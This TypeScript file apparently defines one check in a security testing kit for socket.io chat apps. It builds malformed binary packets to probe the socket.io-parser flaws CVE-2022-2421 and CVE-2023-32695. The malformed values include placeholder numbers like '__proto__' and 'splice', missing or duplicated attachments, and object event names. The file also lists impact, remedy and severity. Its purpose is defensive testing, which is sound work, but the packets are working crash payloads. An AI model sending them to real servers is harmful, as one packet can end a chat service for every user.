import { handMadeSteps } from '../../kit/binary-packets.ts'
import { crashAttack } from '../../kit/crash-attack.ts'

const hole = (num: unknown) => JSON.stringify({ _placeholder: true, num })

export default crashAttack({
  id: 'crash/bin-placeholder',
  rows: ['crash.bin.placeholder'],
  title:
    'Binary events whose placeholders name no attachment, one twice or an inherited name, and names that are objects',
  requirement: 'CVE-2022-2421, CVE-2023-32695: what stands for an attachment is a number of one that came',
  impact: 'One packet of any user ends the chat for everybody, or puts a function where the handler expects data.',
  remedy: 'Keep socket.io-parser at 4.2.6 or later (npm ls socket.io-parser); validate what binary events carry.',
  severity: 'high',
  cwe: ['CWE-1287', 'CWE-248'],
  references: ['CVE-2022-2421', 'CVE-2023-32695'],
  provenBy: 'old-parser',
  needs: ['textPackets'],
  steps(context) {
    const { event } = context.target.profile.chat.send
    const name = JSON.stringify(event)
    const places = ['splice', '__proto__', 'length', -1, 1.5, 99, 1e308, null, [0], {}]
    return handMadeSteps(context, [
      ...places.map((num) => ({
        name: `an attachment number ${JSON.stringify(num)}`,
        packet: `51-[${name},${hole(num)}]`,
        attachments: 1,
      })),
      { name: 'one attachment in two places', packet: `51-[${name},${hole(0)},${hole(0)}]`, attachments: 1 },
      { name: 'an attachment that never comes', packet: `52-[${name},${hole(1)}]`, attachments: 1 },
      { name: 'an attachment as the name', packet: `51-[${hole(0)},{}]`, attachments: 1 },
      { name: 'a name that is an object', packet: '2[{"toString":"x"}]' },
      {
        name: 'a name that is an object, as a binary event',
        packet: `51-[{"toString":"x"},${hole(0)}]`,
        attachments: 1,
      },
      { name: 'attachments to an acknowledgement', packet: `61-7[${hole(0)}]`, attachments: 1 },
    ])
  },
})
